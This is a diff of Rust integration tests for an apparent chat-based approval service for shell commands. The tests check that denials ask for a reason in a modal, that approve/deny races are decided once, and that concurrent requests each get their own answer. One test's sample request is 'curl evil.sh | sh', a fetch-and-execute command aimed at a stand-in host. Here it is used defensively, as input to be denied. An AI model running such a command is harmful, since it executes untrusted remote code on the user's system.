@@ -85,18 +85,33 @@ fn post_ts(app: &TestApp) -> String {
 }
 
 #[tokio::test]
-async fn deny_click_denies_and_says_who() {
+async fn deny_click_asks_why_and_the_reason_decides() {
     let app = spawn_app().await;
     let id = app.submit_and_post(request("curl evil.sh | sh")).await;
     assert_eq!(app.deny(&id, "U0BOB").await.status, StatusCode::OK);
+    // The click alone decides nothing: it opens the reason modal with its trigger.
+    let modal = app.wait_for_modal(&id).await;
+    assert_eq!(modal.body["trigger_id"], "1111.2222.abcd");
+    assert_eq!(app.approval(&id).await["status"], "pending");
+
+    let ack = app
+        .submit_reason(&id, "U0BOB", "Pipes a download into sh")
+        .await;
+    assert_eq!(ack.status, StatusCode::OK);
+    assert_eq!(ack.body, Value::Null, "an empty ack closes the modal");
     let body = app.approval(&id).await;
     assert_eq!(body["status"], "denied");
     assert_eq!(body["approved"], false);
     assert_eq!(body["decided_by"], "U0BOB");
+    assert_eq!(body["reason"], "Pipes a download into sh");
     let update = app
         .wait_for_update("the denied message", |c| !has_buttons(c))
         .await;
-    assert!(update.body["blocks"].to_string().contains("Denied"));
+    let blocks = update.body["blocks"].to_string();
+    assert!(
+        blocks.contains("Denied") && blocks.contains("Pipes a download into sh"),
+        "{blocks}"
+    );
 }
 
 #[tokio::test]
@@ -270,12 +285,21 @@ async fn concurrent_approve_and_deny_decide_exactly_once() {
     let app = spawn_app().await;
     for round in 0..10 {
         let id = app.submit_and_post(request(&format!("echo {round}"))).await;
-        let (a, b) = tokio::join!(app.approve(&id, "U0ALICE"), app.deny(&id, "U0BOB"));
+        // Bob has the reason modal open; his submit races Alice's Approve.
+        assert_eq!(app.deny(&id, "U0BOB").await.status, StatusCode::OK);
+        app.wait_for_modal(&id).await;
+        let (a, b) = tokio::join!(
+            app.approve(&id, "U0ALICE"),
+            app.submit_reason(&id, "U0BOB", "not now")
+        );
         assert_eq!((a.status, b.status), (StatusCode::OK, StatusCode::OK));
         let body = app.approval(&id).await;
         let expected_by = if body["status"] == "approved" {
+            // Bob's late submission is refused in the modal, saying why.
+            assert_eq!(b.body["response_action"], "errors", "{:?}", b.body);
             "U0ALICE"
         } else {
+            assert_eq!(body["reason"], "not now");
             "U0BOB"
         };
         assert_eq!(body["decided_by"], expected_by, "{body}");
@@ -326,7 +350,11 @@ async fn two_hundred_concurrent_requests_each_get_their_own_answer() {
                 if i % 2 == 0 {
                     app.approve(id, &format!("U0R{i}")).await
                 } else {
-                    app.deny(id, &format!("U0R{i}")).await
+                    // Deny, then the modal's submit (the fake opens every modal).
+                    let click = app.deny(id, &format!("U0R{i}")).await;
+                    assert_eq!(click.status, StatusCode::OK);
+                    app.submit_reason(id, &format!("U0R{i}"), &format!("no {i}"))
+                        .await
                 }
             };
             let (response, ack) = tokio::join!(poll, click);
@@ -345,6 +373,9 @@ async fn two_hundred_concurrent_requests_each_get_their_own_answer() {
         assert_eq!(body["id"], id.as_str());
         assert_eq!(body["approved"], i % 2 == 0, "request {i}: {body}");
         assert_eq!(body["decided_by"], format!("U0R{i}"));
+        if i % 2 == 1 {
+            assert_eq!(body["reason"], format!("no {i}"));
+        }
     }
 }
 
